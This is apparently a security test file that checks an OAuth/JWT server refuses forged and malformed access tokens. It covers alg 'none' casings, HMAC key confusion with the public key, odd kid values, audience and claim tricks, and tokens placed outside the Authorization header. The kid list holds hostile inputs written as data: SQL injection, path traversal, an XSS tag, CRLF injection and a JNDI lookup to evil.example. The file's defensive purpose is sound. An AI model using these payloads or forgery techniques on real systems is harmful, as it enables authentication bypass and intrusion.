import { createPublicKey } from 'node:crypto';
import { describe, expect } from 'vitest';
import {
  type Members,
  compact,
  decode,
  encode,
  expectRefused,
  hs256,
  publishedKey,
  rs256,
  stealSigningKey,
  unsigned,
} from '../../support/forgery.ts';
import { expectAlive, signIn } from '../../support/oauth.ts';
import { it as base, issuer } from '../../support/tessera.ts';
import { ask, listen } from '../../support/wire.ts';

const it = base
  .extend('signer', { scope: 'file' }, async ({ tessera }) => {
    const token = (await signIn(tessera)).tokens.access_token;
    const { header, payload } = decode(token);
    const { kid, key } = await stealSigningKey(tessera);
    const sign = (more: Members, claims: Members = {}) => {
      return compact({ ...header, ...more }, { ...payload, ...claims }, rs256(key));
    };
    return { token, header, payload, kid, key, sign };
  })
  .extend('port', { scope: 'file' }, async ({ tessera }, { onCleanup }) => {
    const { port, close } = await listen(tessera.app);
    onCleanup(close);
    return port;
  });

/** Every casing of a word. */
function casingsOf(word: string): string[] {
  return Array.from(word).reduce<string[]>(
    (starts, letter) =>
      starts.flatMap((start) => [...new Set([letter.toLowerCase(), letter.toUpperCase()])].map((each) => start + each)),
    [''],
  );
}

describe('a token with an algorithm of its own choice', () => {
  it('is refused with none in each of its sixteen casings, unsigned or signed [RFC8725-2.1] [ASVS-9.1.2] [HOSTILE/alg-none]', async ({
    tessera,
    signer,
  }) => {
    expect(casingsOf('none')).toHaveLength(16);
    for (const alg of casingsOf('none')) {
      await expectRefused(tessera, compact({ ...signer.header, alg }, signer.payload, unsigned));
      await expectRefused(tessera, signer.sign({ alg }));
    }
  });

  it('is refused with any HMAC, in any casing, keyed with any form of the public key [RFC8725-2.1] [HOSTILE/hs256]', async ({
    tessera,
    signer,
  }) => {
    const jwk = await publishedKey(tessera, signer.kid);
    const key = createPublicKey({ key: jwk, format: 'jwk' });
    const pem = key.export({ type: 'spki', format: 'pem' }) as string;
    const secrets = [
      pem,
      pem.replaceAll('\n', '\r\n'),
      pem.replaceAll('\n', ''),
      pem.split('\n').slice(1, -2).join(''),
      key.export({ type: 'spki', format: 'der' }),
      key.export({ type: 'pkcs1', format: 'der' }),
      JSON.stringify(jwk),
      JSON.stringify({ keys: [jwk] }),
      JSON.stringify({ e: jwk.e, kty: 'RSA', n: jwk.n }),
      Buffer.from(jwk.n ?? '', 'base64url'),
      signer.kid,
      issuer,
      '\0',
    ];
    for (const alg of ['HS256', 'hs256', 'Hs256', 'HS384', 'HS512'])
      for (const secret of secrets)
        await expectRefused(tessera, compact({ ...signer.header, alg }, signer.payload, hs256(secret)));
  });
});

/** `S` stands for the right one. */
const oddKids: [name: string, kid: unknown][] = [
  ['NUL', '\0'],
  ['the right one and NUL', 'S\0'],
  ['NUL and the right one', '\0S'],
  ['the right one and a space', 'S '],
  ['the right one in small letters', 's'],
  ['a UNION of SQL', "x' UNION SELECT 1,2,3,4,5,6,7,8,9,10 --"],
  ['a path to the key-encryption key', '../keys/key-encryption-key'],
  ['a device', '/dev/urandom'],
  ['a URL', 'https://evil.example/jwks.json#S'],
  ['markup', '<script>alert(1)</script>'],
  ['CR and LF', 'S\r\nX: y'],
  ['half a character', '\uD800'],
  ['a lookup in a log', '${jndi:ldap://evil.example/S}'],
  ['five thousand letters', 'k'.repeat(5000)],
  ['five thousand letters behind the right one', `S${'k'.repeat(5000)}`],
  ['null', null],
  ['true', true],
  ['a list of the right one', ['S']],
  ['an object that says the right one', { toString: 'S', valueOf: 'S' }],
];

describe('a token that the key of the server has signed', () => {
  it('works: what the other tests rest on', async ({ tessera, signer }) => {
    await expectAlive(tessera, signer.sign({}));
  });

  it.for(oddKids)('is refused with the kid %s [RFC8725-3.10] [HOSTILE/kid]', async ([, kid], { tessera, signer }) => {
    const named = JSON.parse(
      JSON.stringify(kid).replaceAll('S', signer.kid).replaceAll('"s"', `"${signer.kid.toLowerCase()}"`),
    ) as unknown;
    await expectRefused(tessera, signer.sign({ kid: named }));
    expect(tessera.log.join('')).not.toContain('"level":50');
  });

  it('is refused with a list of audiences, with ours among them or alone: it is for one [RFC8725-3.9] [HOSTILE/aud]', async ({
    tessera,
    signer,
  }) => {
    const other = 'https://api.example';
    for (const aud of [[issuer], [issuer, other], [other, issuer], [[issuer]], { 0: issuer }])
      await expectRefused(tessera, signer.sign({}, { aud }));
  });

  it('is refused with claims of another kind than text or numbers [HOSTILE/claim-types]', async ({
    tessera,
    signer,
  }) => {
    const odd: unknown[] = [0, true, null, [], {}, ['x'], { toString: 'x' }];
    for (const claim of ['sub', 'client_id', 'jti', 'scope', 'sid', 'aud', 'iss'])
      for (const value of odd) await expectRefused(tessera, signer.sign({}, { [claim]: value }));
  });

  it('is refused with a header or a payload nested thousands of levels deep [HOSTILE/nesting]', async ({
    tessera,
    signer,
  }) => {
    const deep = '['.repeat(1000) + ']'.repeat(1000);
    const header = JSON.stringify({ ...signer.header, x: 0 }).replace('"x":0', `"x":${deep},"crit":["x"]`);
    const payload = JSON.stringify({ ...signer.payload, aud: 0 }).replace('"aud":0', `"aud":${deep}`);
    const input = `${encode(header)}.${encode(payload)}`;
    await expectRefused(tessera, `${input}.${rs256(signer.key)(input).toString('base64url')}`);
  });

  it('is refused when it is a second too old, and again a second later [HOSTILE/expired]', async ({
    tessera,
    signer,
  }) => {
    const exp = tessera.clock() - 1;
    const token = signer.sign({}, { exp });
    await expectRefused(tessera, token, 'The access token has expired.');
    await expectRefused(tessera, signer.sign({}, { exp: exp + 0.999 }), 'The access token has expired.');
  });
});

describe('a token in two places, or in the wrong one (RFC 6750, 2)', () => {
  const form = 'application/x-www-form-urlencoded';

  it('is read from the header alone: one in a form is a parameter that means nothing [RFC6750-2] [RFC6750-2.2] [HOSTILE/two-tokens]', async ({
    tessera,
    port,
  }) => {
    const admin = await signIn(tessera, { roles: ['admin'] });
    const plain = await signIn(tessera);
    const [strong, weak] = [admin.tokens.access_token, plain.tokens.access_token];
    const ask1 = (headers: Record<string, string>, more: string) =>
      ask(port, 'POST', '/introspect', { 'Content-Type': form, ...headers }, `token=${weak}&${more}`);

    expect((await ask1({}, `access_token=${strong}`)).status).toBe(401);
    expect((await ask1({ Authorization: `Bearer ${weak}` }, `access_token=${strong}`)).status).toBe(403);
    const inHeader = await ask1({ Authorization: `Bearer ${strong}` }, `access_token=${weak}`);
    expect(JSON.parse(inHeader.body)).toMatchObject({ active: true, sub: plain.id });
  });

  it('is read from the header alone: one in the query is refused, or means nothing [RFC6750-2] [HOSTILE/token-in-query]', async ({
    tessera,
    port,
  }) => {
    const { tokens } = await signIn(tessera, { roles: ['admin'] });
    const { access_token: token } = tokens;
    const bearer = { Authorization: `Bearer ${token}` };
    for (const name of ['access_token', 'token', 'bearer_token', 'Authorization']) {
      expect((await ask(port, 'GET', `/users/me?${name}=${token}`)).status).toBe(401);
      expect((await ask(port, 'GET', `/users/me?${name}=${token}`, bearer)).status).toBe(400);
      const headers = { 'Content-Type': form };
      expect((await ask(port, 'POST', `/introspect?${name}=${token}`, headers, 'token=x')).status).toBe(401);
    }
  });

  it('is no member of a JSON body [HOSTILE/two-tokens]', async ({ tessera, port }) => {
    const { tokens } = await signIn(tessera);
    const body = JSON.stringify({ name: 'x', access_token: tokens.access_token });
    const json = { 'Content-Type': 'application/json' };
    expect((await ask(port, 'PATCH', '/users/me', json, body)).status).toBe(401);
    const bearer = { ...json, Authorization: `Bearer ${tokens.access_token}` };
    expect((await ask(port, 'PATCH', '/users/me', bearer, body)).status).toBe(400);
  });
});
